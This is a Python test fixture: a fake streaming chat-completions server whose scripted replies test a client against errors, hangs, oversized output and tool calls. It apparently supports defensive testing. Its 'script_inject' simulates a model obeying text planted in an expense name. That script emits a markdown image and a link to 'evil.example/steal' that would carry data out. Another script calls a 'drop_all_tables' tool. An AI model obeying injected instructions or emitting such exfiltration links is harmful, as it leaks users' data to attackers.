"""A scripted provider of chat completions: what it does is named by a word in brackets in the user's last message."""

import http.server
import json
import threading
import time

SECRET_LINK = "https://evil.example/steal?d=1"
TOOL = "totals"


class Provider(http.server.ThreadingHTTPServer):
    daemon_threads = True
    request_queue_size = 512

    def __init__(self, port=0):
        super().__init__(("127.0.0.1", port), Handler)
        self.asked = []  # the bodies, in order
        self.keys = []
        self.says = None  # the reply, whatever is asked
        self.does = None  # the script, whatever is asked
        self.ended = threading.Event()
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def url(self):
        return f"http://127.0.0.1:{self.server_port}/v1"

    def stop(self):
        self.ended.set()
        self.shutdown()
        self.server_close()

    def handle_error(self, request, client_address):
        """A client that hung up is part of the scripts."""


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *_):
        pass

    def do_POST(self):
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self.server.asked.append(body)
        self.server.keys.append(self.headers.get("Authorization"))
        self.messages = body["messages"]
        self.tools = [tool["function"]["name"] for tool in body.get("tools", [])]
        if self.server.does:
            return getattr(self, f"script_{self.server.does}")()
        if self.server.says is not None:
            return self.say(self.server.says)
        said = next(message["content"] for message in reversed(self.messages) if message["role"] == "user")
        name = said.split("[", 1)[1].split("]", 1)[0] if "[" in said else "plain"
        getattr(self, f"script_{name}", self.script_plain)()

    # ---- what can be sent ----

    def begin(self, status=200, kind="text/event-stream", **headers):
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Connection", "close")
        for field, value in headers.items():
            self.send_header(field.replace("_", "-"), str(value))
        self.end_headers()
        self.close_connection = True

    def event(self, delta, finish=None):
        chunk = {"model": "fake-1", "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]}
        self.wfile.write(f"data: {json.dumps(chunk)}\n\n".encode())

    def end(self):
        self.event({}, "stop")
        self.wfile.write(b"data: [DONE]\n\n")

    def say(self, *pieces, pause=0):
        self.begin()
        for piece in pieces:
            self.event({"content": piece})
            self.wfile.flush()
            if pause:
                self.server.ended.wait(pause)
        self.end()

    def call_tool(self, name=TOOL, arguments="{}"):
        self.begin()
        self.event(
            {"tool_calls": [{"index": 0, "id": f"call-{len(self.messages)}", "function": {"name": name, "arguments": ""}}]}
        )
        self.event({"tool_calls": [{"index": 0, "function": {"arguments": arguments}}]})
        self.end()

    @property
    def tool_said(self):
        return [message["content"] for message in self.messages if message["role"] == "tool"]

    # ---- scripts ----

    def script_plain(self):
        self.say("Xin ", "chào ", "bạn.")

    def script_slow(self):
        self.say(*[f"từ{number} " for number in range(12)], pause=0.1)

    def script_heartbeat(self):
        self.begin()
        self.event({"content": "đầu "})
        self.wfile.flush()
        self.server.ended.wait(7)
        self.event({"content": "cuối"})
        self.end()

    def script_whole(self):
        """A provider that does not stream."""
        text = json.dumps({"model": "fake-1", "choices": [{"message": {"content": "một lần"}, "finish_reason": "stop"}]})
        self.begin(kind="application/json", Content_Length=len(text))
        self.wfile.write(text.encode())

    def script_429(self):
        self.begin(429, "application/json", Retry_After=3, Content_Length=0)

    def script_throttled_key(self):
        """The first key is at its limit, the others are not."""
        if len({key for key in self.server.keys if key}) == 1:
            self.script_429()
        else:
            self.script_plain()

    def script_500(self):
        self.begin(500, "text/plain", Content_Length=0)

    def script_cut(self):
        self.begin()
        self.event({"content": "nửa câu "})

    def script_garbage(self):
        self.begin()
        self.wfile.write(b"data: {not json\n\n")

    def script_hang(self):
        self.server.ended.wait(60)

    def script_huge(self):
        self.begin()
        piece = "mười byte " * 100
        for _ in range(10 * 1024 * 1024 // len(piece)):
            self.event({"content": piece})
        self.end()

    def script_tools(self):
        if not self.tool_said:
            return self.call_tool()
        self.say(f"Tổng là {json.loads(self.tool_said[-1])['total']}.")

    def script_loop(self):
        self.call_tool()

    def script_unknown_tool(self):
        if not self.tool_said:
            return self.call_tool("drop_all_tables", '{"household": 1}')
        self.say("Công cụ nói: " + json.loads(self.tool_said[-1])["error"])

    def script_inject(self):
        """A model that obeys what somebody wrote into the name of an expense."""
        if not self.tool_said:
            return self.call_tool()
        self.say("Xem ", "![x](https://evil.exa", f"mple/steal?d={len(self.tool_said[-1])}) ", "và ", SECRET_LINK)

    def script_bench(self):
        time.sleep(60)
